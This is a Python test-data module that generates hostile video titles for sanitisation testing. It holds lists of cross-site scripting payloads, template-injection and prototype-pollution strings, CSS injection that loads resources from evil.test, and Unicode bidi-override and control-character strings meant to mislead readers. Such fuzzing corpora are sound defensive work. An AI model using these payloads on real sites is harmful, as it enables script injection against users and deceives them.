"""Texts that a channel could give its videos to run a script, break a page or mislead the eye."""

from __future__ import annotations

from itertools import cycle, islice
from typing import Final

SCRIPTS: Final = (
    "<script>hostile()</script>", "<img src=x onerror=hostile()>", "<svg onload=hostile()>", "<svg><script>hostile()</script></svg>",
    "\"><script>hostile()</script>", "' onmouseover='hostile()' x='", "\" autofocus onfocus=\"hostile()\" x=\"",
    "</title><script>hostile()</script>", "</script><script>hostile()</script>", "--><script>hostile()</script>",
    "<iframe srcdoc='<script>parent.hostile()</script>'>", "<iframe src=javascript:parent.hostile()>", "<a href=javascript:hostile()>x</a>",
    "<details open ontoggle=hostile()>", "<video><source onerror=hostile()>", "<body onload=hostile()>", "<math><mtext><script>hostile()",
    "<template><script>hostile()</script></template>", "<base href=https://evil.test/>", "<meta http-equiv=refresh content='0;url=javascript:hostile()'>",
    "<link rel=stylesheet href=https://evil.test/x.css>", "<form action=javascript:hostile()><button>x", "<object data=javascript:hostile()>",
    "<embed src=javascript:hostile()>", "<input autofocus onfocus=hostile()>", "<noscript><p title='</noscript><img src=x onerror=hostile()>'>",
    "javascript:hostile()", "data:text/html,<script>hostile()</script>", "vbscript:hostile()", "&lt;script&gt;hostile()&lt;/script&gt;",
    "${hostile()}", "{{constructor.constructor('hostile()')()}}", "{{hostile()}}", "<%= hostile() %>", "#{hostile()}", "`${hostile()}`",
    "$TITLE$ $1 $& __MSG_appName__", "');hostile();//", "\");hostile();//", "\\u003cscript\\u003ehostile()\\u003c/script\\u003e",
    "__proto__", "constructor", "toString", "[object Object]", "null", "NaN",
)  # fmt: skip
STYLES: Final = (
    "<style>*{display:none!important}</style>", "</style><style>body{background:url(https://evil.test/x)}", "x;position:fixed;inset:0;z-index:9999",
    "expression(hostile())", "url(javascript:hostile())", "<div style='position:fixed;inset:0'>", "}*{order:9}", "@import 'https://evil.test/x';",
)  # fmt: skip
SIGHTS: Final = (
    "\u202eetisbew a si siht\u202c", "\u2066left\u2069\u2067right\u2069", "\u200f\u200e\u061c marks", "ze\u200bro\u200cwi\u200ddth\u2060\ufeff",
    "nul\x00inside", "bell\x07 escape\x1b[31m backspace\x08", "line\nbreak\r\nand\ttab\u2028\u2029", "שלום עולם <b>", "مرحبا بالعالم <script>",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇺🇳" * 20, "lone high \ud83d surrogate", "lone low \ude00 surrogate", "Z" + "\u0344\u0489" * 200, "﷽" * 60, "𒐫" * 60, "\u00a0" * 80,
    "W" * 10_000, "word " * 2_000, "\u202e" * 300, "\ufffe\uffff\U0010ffff", "", " ", "e\u0301\u0323" * 100, "ﬀ" * 200,
)  # fmt: skip
TEXTS: Final = (*SCRIPTS, *STYLES, *SIGHTS)


def hostile_texts(count: int = 200) -> list[str]:
    """Return so many: each alone, then each inside a title that looks like any other, then one after another."""
    inside = [f"Ten tips {text} for bread" for text in TEXTS]
    pairs = [f"{one} {other}" for one, other in zip(TEXTS, reversed(SCRIPTS + STYLES + SCRIPTS), strict=False)]
    return list(islice(cycle([*TEXTS, *inside, *pairs]), count))
